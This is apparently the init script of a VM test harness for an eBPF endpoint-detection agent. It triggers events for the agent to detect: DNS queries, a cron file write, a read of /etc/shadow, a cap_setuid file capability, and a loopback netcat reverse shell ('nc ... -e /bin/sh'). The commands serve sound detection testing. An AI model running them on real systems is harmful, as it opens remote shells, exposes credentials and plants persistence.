#!/bin/sh
# PID 1 of the `cargo xtask vm-test` guest (busybox-static initramfs).
#
# Mounts what the agent needs, starts it as the packaged unit would (the
# installed binary and BPF object, a root-owned config), runs the workload,
# stops the agent with SIGTERM, then hands everything back to the host on
# the second serial port (/dev/ttyS1, a file on the host) and powers off.
# The workload runs twice, once per hook path ("auto": the fast path where
# the kernel allows it; "tracepoint": [kernel] hooks = "tracepoint"), each
# with a fresh agent, so the host can assert the same records of both.
# It asserts nothing: it records what it did (pids, ports, exit statuses)
# as key=value facts, and the host (xtask/src/vm/suite.rs) checks the
# agent's records against them with clear messages.
#
# Every section on ttyS1 is framed as
#   ==RG-BEGIN <name> <bytes>==\n<bytes of the file>\n==RG-END <name>==\n
# with the port in raw mode, so the host can check it got every byte.
export PATH=/bin
FACTS=/tmp/env.facts
DATA=/dev/ttyS1

fact() { echo "$1=$2" >>"$FACTS"; }

mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -t devtmpfs devtmpfs /dev
mount -t tmpfs tmpfs /tmp
mount -t tmpfs tmpfs /run
# The agent's needs, each verified: tracefs (the classic syscall
# tracepoints' ids), debugfs (the older place of tracefs), bpffs.
mount -t tracefs tracefs /sys/kernel/tracing
mount -t debugfs debugfs /sys/kernel/debug
mount -t bpf bpf /sys/fs/bpf
: >"$FACTS"
fact kernel "$(uname -r)"
fact tracefs "$(test -d /sys/kernel/tracing/events/syscalls && echo mounted || echo missing)"
fact debugfs "$(test -d /sys/kernel/debug/tracing && echo mounted || echo missing)"
fact bpffs "$(grep -q ' /sys/fs/bpf bpf ' /proc/mounts && echo mounted || echo missing)"
fact btf "$(test -r /sys/kernel/btf/vmlinux && echo present || echo missing)"
# Program run counts in the health record (the DNS hooks' check).
echo 1 >/proc/sys/kernel/bpf_stats_enabled
fact bpf_stats "$(cat /proc/sys/kernel/bpf_stats_enabled)"
ip link set lo up
hostname rg-vm
stty -F "$DATA" raw -echo

emit() {
	printf '\n==RG-BEGIN %s %s==\n' "$1" "$(wc -c <"$2")" >"$DATA"
	cat "$2" >"$DATA"
	printf '\n==RG-END %s==\n' "$1" >"$DATA"
}
# One pass: $1 names it (its sections' suffix), $2 is the agent's config.
pass() {
	OUT=/tmp/$1
	CONFIG=$2
	FACTS=$OUT/facts
	mkdir -p "$OUT"
	cp /tmp/env.facts "$FACTS"
	fact pass "$1"
	# The agent, as the unit starts it.
	start=$(cut -d' ' -f1 /proc/uptime)
	EDR_CONFIG="$CONFIG" EDR_EBPF_OBJECT=/usr/local/lib/rand-guard/edr-ebpf \
		/usr/local/bin/rand-guard run --output "$OUT/out.jsonl" 2>"$OUT/agent.err" &
	agent=$!
	fact agent_pid "$agent"
	ready=no
	i=0
	# TCG emulates the verifier too: ready 3 to 19 s after the start here
	# on the tracepoints, 55 to 189 s on the fast path (31 more programs,
	# on a loaded host); 450 s before giving up.
	while [ $i -lt 900 ]; do
		if grep -q 'rand-guard: ready' "$OUT/agent.err"; then
			ready=yes
			break
		fi
		kill -0 "$agent" 2>/dev/null || break
		sleep 0.5
		i=$((i + 1))
	done
	fact ready "$ready"
	fact ready_seconds "$(awk -v s="$start" '{ printf "%.1f", $1 - s }' /proc/uptime)"
	fact driver_pid "$$"

	if [ "$ready" = yes ]; then
		# DNS (collect_dns): an A query each to 127.0.0.1:53 and [::1]:53,
		# write(2) on a connected UDP socket (udp_sendmsg, udpv6_sendmsg
		# on the fast path). busybox has no UDP listener and nothing
		# answers: nslookup is stopped before it sends again (2.5 s).
		timeout 2 /bin/nslookup -type=a rg-vm-dns.test 127.0.0.1 >/dev/null 2>&1 &
		pid=$!
		wait "$pid"
		fact dns4_pid "$pid"
		timeout 2 /bin/nslookup -type=a rg-vm-dns.test ::1 >/dev/null 2>&1 &
		pid=$!
		wait "$pid"
		fact dns6_pid "$pid"
		# Writes that are no UDP send: on the fast path no DNS program runs
		# for them (the host reads the programs' run counts in the final
		# health record; the agent samples them once a second, so this
		# comes first).
		dd if=/dev/zero of=/dev/null bs=1 count=1000 2>/dev/null
		fact null_writes 1000

		# exec, fork, exit: /bin/true and a shell exiting 3.
		/bin/true &
		pid=$!
		wait "$pid"
		fact true_status "$?"
		fact true_pid "$pid"
		/bin/sh -c 'exit 3' &
		pid=$!
		wait "$pid"
		fact exit3_status "$?"
		fact exit3_pid "$pid"

		# A file written under a watched prefix (/etc), and one in /etc/cron.d.
		/bin/sh -c 'printf "vm-test\n" > /etc/rg-vm-file' &
		pid=$!
		wait "$pid"
		fact file_pid "$pid"
		/bin/sh -c 'printf "* * * * * root /bin/true\n" > /etc/cron.d/rg-vm-cron' &
		pid=$!
		wait "$pid"
		fact cron_pid "$pid"

		# A read of a watched file (watch_reads: /etc/shadow).
		/bin/cat /etc/shadow >/dev/null &
		pid=$!
		wait "$pid"
		fact read_pid "$pid"

		# File capabilities (the static xtask's vm-xattr: busybox has no
		# setfattr or setcap): setxattr(2) of security.capability on a
		# file in /tmp, a revision-2 value giving cap_setuid, effective
		# (reported wherever the file is); then fsetxattr(2) of a user.*
		# attribute on a file outside the watched prefixes, which the
		# kernel filters (tmpfs has user.* attributes from 6.6 on: on
		# 6.1 it fails with EOPNOTSUPP, counted as a failure instead).
		: >/tmp/rg-vm-cap
		/usr/local/bin/rg-vm-xtask vm-xattr set /tmp/rg-vm-cap security.capability \
			0100000280000000000000000000000000000000 >/dev/null 2>"$OUT/xattr.err" &
		pid=$!
		wait "$pid"
		fact xattr_cap_status "$?"
		fact xattr_cap_pid "$pid"
		/usr/local/bin/rg-vm-xtask vm-xattr fset /var/lib/rg-vm-note user.rg-vm-note \
			7267 >/dev/null 2>>"$OUT/xattr.err" &
		pid=$!
		wait "$pid"
		fact xattr_user_status "$?"
		fact xattr_user_pid "$pid"
		fact xattr_errors "$(tr '\n' ' ' <"$OUT/xattr.err")"

		# A loopback connect (network on) to a listener on 4444.
		nc -l -p 4444 >/dev/null </dev/null &
		listener=$!
		fact listener_pid "$listener"
		sleep 1
		# (at the end of its stdin nc shuts its side down; the listener
		# then closes, and both exit)
		echo hello | /bin/nc 127.0.0.1 4444 &
		pid=$!
		wait "$pid"
		fact connect_pid "$pid"
		kill "$listener" 2>/dev/null
		wait "$listener" 2>/dev/null

		# A reverse shell: nc connects, puts the socket on stdin and stdout
		# and execs a shell in the same process; the "attacker" sends it a
		# command and keeps what comes back.
		(
			printf 'echo rg-vm-reverse-shell-marker\nexit\n'
			sleep 3
		) | nc -l -p 7001 >"$OUT/attacker.out" &
		attacker=$!
		sleep 1
		nc 127.0.0.1 7001 -e /bin/sh &
		pid=$!
		wait "$pid"
		fact revshell_pid "$pid"
		wait "$attacker" 2>/dev/null
		fact revshell_marker "$(grep -c rg-vm-reverse-shell-marker "$OUT/attacker.out")"

		# Give the poller a moment, then SIGTERM: everything must be flushed.
		sleep 1
	fi
	kill -TERM "$agent" 2>/dev/null
	wait "$agent"
	fact agent_exit "$?"
}

pass auto /etc/rand-guard/config.toml
pass tracepoint /etc/rand-guard/tracepoint.toml
dmesg | tail -n 40 >/tmp/dmesg.tail
for p in auto tracepoint; do
	emit "facts-$p" "/tmp/$p/facts"
	emit "stderr-$p" "/tmp/$p/agent.err"
	emit "records-$p" "/tmp/$p/out.jsonl"
done
emit dmesg /tmp/dmesg.tail
printf '\n==RG-DONE==\n' >"$DATA"
sync
poweroff -f
